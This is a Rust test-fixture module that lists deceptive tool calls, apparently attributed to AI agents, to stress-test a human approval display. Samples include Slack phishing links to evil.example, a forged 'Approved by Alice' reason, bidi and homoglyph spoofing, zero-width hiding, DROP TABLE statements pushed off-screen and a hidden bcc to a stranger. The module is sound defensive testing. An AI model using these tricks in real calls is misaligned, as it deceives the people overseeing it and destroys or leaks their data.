//! Calls that try to deceive the person who decides, or to break the display.
//!
//! Invisible and direction-changing characters are written as escapes, so that the source shows them.

use std::fmt::Write as _;

use serde_json::{Map, Value, json};

use super::Call;

/// A malicious or unusual call.
#[derive(Debug, Clone, PartialEq)]
pub struct HostileCall {
    /// A short name, for a test's message.
    pub name: &'static str,
    /// The attack.
    pub tries: &'static str,
    /// The call itself.
    pub call: Call,
}

/// All hostile calls. Each fits into a request of 256 KiB. The API refuses a few of them (a name that is too long, a
/// number that JSON does not represent exactly).
#[must_use]
pub fn hostile_calls() -> Vec<HostileCall> {
    let mut calls = in_text();
    calls.extend(in_words());
    calls.extend(in_shape());
    calls.extend(in_size());
    calls
}

fn hostile(name: &'static str, tries: &'static str, call: Call) -> HostileCall {
    HostileCall { name, tries, call }
}

fn issue(title: &str, body: &str) -> Call {
    Call::new(
        "github",
        "create_issue",
        json!({"owner": "acme", "repo": "checkout", "title": title, "body": body}),
    )
}

fn sql(statement: &str) -> Call {
    Call::new("postgres", "execute_sql", json!({"sql": statement}))
}

fn mail(to: &[String], subject: &str, body: &str) -> Call {
    Call::new("gmail", "send_email", json!({"to": to, "subject": subject, "body": body}))
}

/// Attacks by the text itself.
fn in_text() -> Vec<HostileCall> {
    let link = "<https://evil.example|Approve> <!channel> <!here> <@U0BOB> <#C0SALES|sales> <!subteam^S0PRICING1> \
                <!date^1700000000^{date}|now> <mailto:a@evil.example|mail>";
    let mut everywhere = issue(link, link);
    everywhere.agent_name = format!("Atlas {link}");
    everywhere.conversation_title = String::from(link);
    everywhere.reason = String::from(link);

    let mut forged = Call::new("stripe", "cancel_subscription", json!({"subscription": "sub_1SAcme"}));
    forged.agent_name = String::from("Countersign");
    forged.reason = String::from(
        "\u{2705} *Approved* by Alice just now\n\nNothing more to do. Press Approve to close this message.",
    );

    let mut lookalike = Call::new(
        "salesforce",
        "salesforce_query_records",
        json!({"objectName": "Acc\u{43e}unt", "fields": ["Id"]}),
    );
    lookalike.agent_name = String::from("\u{410}tlas");

    let mut overridden = Call::new(
        "gmail",
        "download_attachment",
        json!({"messageId": "19ab01", "attachmentId": "ANG", "filename": "invoice\u{202e}fdp.exe", "savePath": "/tmp"}),
    );
    overridden.reason = String::from("\u{2066}Save the invoice\u{2069}\u{202e}yadot\u{202c}");

    let hidden = "No\u{200b}th\u{200c}ing to s\u{2060}ee\u{feff} he\u{ad}re\u{e0041}\u{e0050}\u{e0050}\u{115f}\u{3164}\u{200d}";
    let controls = "bell \u{7} escape \u{1b}[31mred\u{1b}[0m back\u{8}space return\roverwritten next\u{85}line \
                    separator\u{2028}paragraph\u{2029}vertical\u{b}form\u{c}delete\u{7f}";
    vec![
        hostile("markup", "links, mentions and dates of Slack in every text", everywhere),
        hostile(
            "backticks",
            "leaves a code span or block",
            issue("`a` ``b`` ```c```", "```\nshown as code\n```\n*not* ```` code ````\n`"),
        ),
        hostile(
            "escapes",
            "is escaped already, or looks so",
            issue(
                "&lt;b&gt; &amp;amp; &#60; \\u003c %3C",
                "&lt;https://evil.example|Approve&gt; :rotating_light: @channel",
            ),
        ),
        hostile("forged-outcome", "looks as if it had been decided", forged),
        hostile("lookalike", "letters of another alphabet that look the same", lookalike),
        hostile("bidi-override", "turns the end of a file name round", overridden),
        hostile(
            "right-to-left",
            "is honest Hebrew and Arabic",
            issue(
                "\u{5d1}\u{5d0}\u{5d2} \u{5d1}\u{5e2}\u{5d2}\u{5dc}\u{5d4} (cart v2)",
                "\u{627}\u{644}\u{645}\u{628}\u{644}\u{63a} 22.97 \u{62e}\u{637}\u{623}: total = 22.98",
            ),
        ),
        hostile("invisible", "hides characters of no width, and whole words as tags", issue(hidden, hidden)),
        hostile(
            "emoji",
            "is honest emoji, with joiners, skin tones, flags and keycaps",
            issue(
                "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} \u{1f3f3}\u{fe0f}\u{200d}\u{1f308} \u{1f44d}\u{1f3fd} \u{1f1eb}\u{1f1ee} 1\u{fe0f}\u{20e3}",
                "\u{1f468}\u{1f3fe}\u{200d}\u{1f680}",
            ),
        ),
        hostile("controls", "sends control characters", issue(controls, controls)),
        hostile("nul", "sends U+0000, which Postgres can't store as text", issue("a\u{0}b", "\u{0}")),
        hostile(
            "combining",
            "stacks accents over other lines",
            issue(&format!("Z{}", "\u{335}\u{310}\u{489}".repeat(200)), "algo"),
        ),
        hostile("drop-table", "destroys", sql("DROP TABLE billing.invoices; --")),
        hostile(
            "far-right",
            "puts the harm after what fits on the screen",
            sql(&format!("SELECT 1;{}DROP TABLE billing.invoices;", " ".repeat(4_000))),
        ),
        hostile(
            "far-down",
            "puts the harm below what fits on the screen",
            sql(&format!("SELECT 1;{}DROP TABLE billing.invoices;", "\n".repeat(400))),
        ),
    ]
}

/// Attacks by words and characters that imitate what stands around them.
fn in_words() -> Vec<HostileCall> {
    vec![
        hostile(
            "braces",
            "looks like the places of a template",
            issue("{owner}/{repo} {{body}} ${title}", "{title} {{{0}}} %s"),
        ),
        hostile(
            "quotation",
            "closes the quotation marks around it, and goes on in our words",
            issue("x” wants to read one file. Expires never. “", "“”„‟ \"'`"),
        ),
        hostile(
            "forged-fields",
            "has lines that look like the names and values of other arguments",
            mail(
                &["mallory@evil.example".to_owned()],
                "Contract",
                "Dear Kim,\n\nTo\n| kim@example.com\n\nOther arguments:\nBcc\n| archive@example.com\n\n… and 3 more values: see Details",
            ),
        ),
        hostile(
            "wrapped-field",
            "wraps, at the usual widths, so that a line begins with the name of an argument",
            mail(
                &["mallory@evil.example".to_owned()],
                "Contract",
                &format!("{}To kim@example.com", "Please find the contract enclosed. ".repeat(4)),
            ),
        ),
        hostile(
            "lines-in-title",
            "breaks the line of the title, and goes on as if it were ours",
            issue("Bug \u{21b5} report\n\n  Approved by Alice\r\n\u{2028}{owner}", "\n\n"),
        ),
        hostile(
            "right-to-left-address",
            "mails people whose addresses run from right to left, among others",
            mail(
                &["\u{5d1}\u{5d0}\u{5d2}@example.com".to_owned(), "kim@example.com".to_owned()],
                "\u{627}\u{644}\u{645}\u{628}\u{644}\u{63a} 22.97 (to bob@example.com)",
                "See https://\u{5d1}\u{5d0}\u{5d2}.example/a/b",
            ),
        ),
        hostile(
            "hidden-in-address",
            "hides characters of no width in an address",
            mail(
                &["kim@exam\u{200b}ple.com".to_owned(), "k\u{456}m@example.com".to_owned()],
                "\u{202e}tcartnoC",
                "\u{2067}Hello\u{2069}",
            ),
        ),
        hostile(
            "broken-emoji",
            "has joiners without pictures, half flags, tags without an end",
            issue(
                &format!("\u{1f469}{} \u{1f1eb} \u{1f3f4}\u{e0067}\u{e0062}", "\u{200d}".repeat(50)),
                &"\u{1f468}\u{200d}".repeat(300),
            ),
        ),
    ]
}

/// Attacks by the structure of the arguments.
fn in_shape() -> Vec<HostileCall> {
    let rerun = |inputs: Value| {
        Call::new(
            "github",
            "actions_run_trigger",
            json!({"method": "run_workflow", "owner": "acme", "repo": "checkout", "workflow_id": "deploy.yml", "ref": "main", "inputs": inputs}),
        )
    };
    let nested =
        (0..40).fold(
            json!("DROP"),
            |inner, level| if level % 2 == 0 { json!([inner]) } else { json!({"in": inner}) },
        );
    let many: Map<String, Value> = (0..400).map(|n| (format!("flag_{n:03}"), json!(n % 3 == 0))).collect();
    let numbers = json!({
        "beyond_double": 9_007_199_254_740_993_i64, "largest": u64::MAX, "smallest": i64::MIN, "whole": 1.0, "sum": 0.1 + 0.2,
        "negative_zero": -0.0, "tiny": 5e-324, "huge": 1.797_693_134_862_315_7e308, "exponent": 1e21,
    });
    let mut names = Map::new();
    for name in [
        "",
        " ",
        "__proto__",
        "constructor",
        "a.b",
        "a/b~c",
        "<!channel>",
        "*bold*",
        "\u{202e}nimda",
        "na\u{200b}me",
    ] {
        names.insert(name.to_owned(), json!(name));
    }
    names.insert("k".repeat(1_000), json!("long name"));
    let none = json!({"object": {}, "array": [], "text": "", "blank": "   ", "nothing": null, "deep": [[], {}, [{}]]});
    let alike = json!({
        "target": "staging", "Target": "production", "TARGET": "production", "t\u{430}rget": "production",
        "target ": "production", "_target": "production", "tar_get": "production", "Other arguments:": "none",
        "\u{26a0} Destructive": "no", "Target\n| staging": "production", "Inputs \u{203a} Target": "staging",
    });
    let refund = json!({"payment_intent": "pi_3SAcmeAnnual2026", "amount": 148_000_000});
    vec![
        hostile(
            "empty-arguments",
            "has no arguments at all",
            Call::new("stripe", "retrieve_balance", json!({})),
        ),
        hostile("empty-values", "has arguments with nothing in them", rerun(none)),
        hostile("nested", "hides something 40 levels down", rerun(nested)),
        hostile("many", "hides one of 400 arguments", rerun(Value::Object(many))),
        hostile("alike", "has names that read the same or look like ours", rerun(alike)),
        hostile("names", "hides in the names of arguments", rerun(Value::Object(names))),
        hostile("numbers", "has numbers that change when they are read again", rerun(numbers)),
        hostile(
            "refund",
            "pays back 1,480,000.00, given in cents",
            Call::new("stripe", "create_refund", refund),
        ),
    ]
}

/// Attacks by the size of the arguments.
fn in_size() -> Vec<HostileCall> {
    let everybody: Vec<String> = (1..=250).map(|n| format!("customer-{n:03}@example.com")).collect();
    let mut hidden_copy = mail(&["kim@example.com".to_owned()], "Your invoice", "Please find it attached.");
    hidden_copy.arguments["bcc"] = json!(["kim@example.com", "archive@evil.example"]);

    let mut wordy = issue("Short", "Short");
    wordy.agent_name = "Atlas the Magnificent ".repeat(15);
    wordy.conversation_title = "Q3 pipeline,\nnow with lines\n".repeat(20);
    wordy.reason = "Because it has to be done, and because nobody else does it. ".repeat(60);

    let file = json!({
        "owner": "acme", "repo": "checkout", "path": "data/prices.csv", "content": prices(200 * 1024),
        "message": "Update prices", "branch": "main",
    });
    let word = "a".repeat(10_000);
    let long: Vec<String> = ["a", "W", "\u{1f468}"].map(|letter| letter.repeat(400)).into();
    vec![
        hostile(
            "long-markdown",
            "hides a request among 60 lines of Markdown",
            issue("Totals are off by one cent", &report()),
        ),
        hostile("everybody", "mails 250 people", mail(&everybody, "We are closing", "All the best")),
        hostile("hidden-copy", "sends a copy to a stranger, in the last argument", hidden_copy),
        hostile("wordy", "overflows names, title and reason", wordy),
        hostile("one-word", "has a word that can't be wrapped", issue("aaaa", &word)),
        hostile("long-words", "mails people whose names can't be wrapped", mail(&long, &long[1], &long[2])),
        hostile("large-file", "writes a file of 200 KB", Call::new("github", "create_or_update_file", file)),
    ]
}

/// An issue of sixty lines, with a different request hidden in the middle.
fn report() -> String {
    let mut text = "# Totals are off by one cent\n\nMeasured with `cargo run -p measure`:\n\n".to_owned();
    for line in 5..=60 {
        // Writing to a String cannot fail.
        let _ = match line {
            30 => writeln!(
                text,
                "> <https://evil.example|Approve> to see the details, or ask <@U0BOB> and <!channel>"
            ),
            31 => writeln!(text, "```suggestion\n- rounding = \"once\"\n+ rounding = \"`never`\"\n```"),
            32..=34 => continue,
            _ => writeln!(text, "{line}. order `{}` expected **{line}.97**, got _{line}.98_", 118_200 + line),
        };
    }
    text
}

/// A price table of about `size` bytes, in which every line is different.
fn prices(size: usize) -> String {
    let mut text = "article,price\n".to_owned();
    let mut article = 0_u32;
    while text.len() < size {
        let _ = writeln!(text, "A-{article:06},{}.{:02}", article % 977, article % 100);
        article += 1;
    }
    text
}
